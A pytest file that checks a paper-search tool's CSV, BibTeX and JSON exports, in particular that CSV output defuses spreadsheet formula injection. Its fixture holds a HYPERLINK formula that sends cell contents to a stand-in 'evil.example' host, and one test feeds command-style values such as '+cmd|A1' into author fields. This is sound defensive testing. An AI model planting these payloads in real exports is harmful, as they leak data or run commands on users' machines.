import csv
import io
import json

import pytest
from sqlite_utils import Database

from core.types import Hit, ModelState, ModelVersion, SearchResult
from search.exports import EXPORTS
from storage import library
from storage.corrections import correct_document
from tests.makers import store_paper

FORMULA = '=HYPERLINK("http://evil.example?"&A1)'


def result_of(db: Database) -> SearchResult:
    """Two passages of one paper and one of another, whose title is a formula."""
    first = store_paper(db, "aa", ["One, with a comma.", '"Two" in quotes\nand lines.'])
    second = store_paper(db, "bb", [FORMULA])
    correct_document(db, second.id, {"title": FORMULA, "authors": ("Ada A", "Bo B"), "year": 1919})
    chunks = [chunk for paper in (first, second) for chunk in library.chunks_of_document(db, paper.id)]
    model = ModelVersion(1, "m", "m", 4, 64, "f", None, ModelState.READY, "then")
    hits = (Hit(1, 0.5, chunks[0], 1, 2), Hit(2, 0.25, chunks[2]), Hit(3, 0.125, chunks[1]))
    return SearchResult("why?", model, 0.01, hits)


def test_a_table_has_a_row_a_passage_and_no_formula(db: Database) -> None:
    rows = list(csv.DictReader(io.StringIO(EXPORTS["csv"](db, result_of(db)))))
    assert [(row["rank"], row["score"], row["text"]) for row in rows] == [
        ("1", "0.5", "One, with a comma."),
        ("2", "0.25", f"'{FORMULA}"),
        ("3", "0.125", '"Two" in quotes\nand lines.'),
    ]
    assert (rows[1]["title"], rows[1]["authors"], rows[1]["year"]) == (f"'{FORMULA}", "Ada A; Bo B", "1919")


def test_each_paper_is_one_entry_of_a_bibliography(db: Database) -> None:
    text = EXPORTS["bibtex"](db, result_of(db))
    assert text.count("@misc") == 2
    assert text.index("aa") < text.index("HYPERLINK")


def test_json_is_what_the_command_prints(db: Database) -> None:
    values = json.loads(EXPORTS["json"](db, result_of(db)))
    assert [(hit["rank"], hit["dense_rank"], hit["lexical_rank"], hit["rerank"]) for hit in values["hits"]] == [
        (1, 1, 2, None),
        (2, None, None, None),
        (3, None, None, None),
    ]


@pytest.mark.parametrize("start", ["+", "-", "@", "\t", "＝", "＠"])
def test_whatever_begins_a_formula_is_text_in_a_table(db: Database, start: str) -> None:
    result = result_of(db)
    correct_document(db, result.hits[1].chunk.document_id, {"authors": (f"{start}cmd|A1",)})
    rows = list(csv.DictReader(io.StringIO(EXPORTS["csv"](db, result))))
    assert rows[1]["authors"] == f"'{start}cmd|A1"
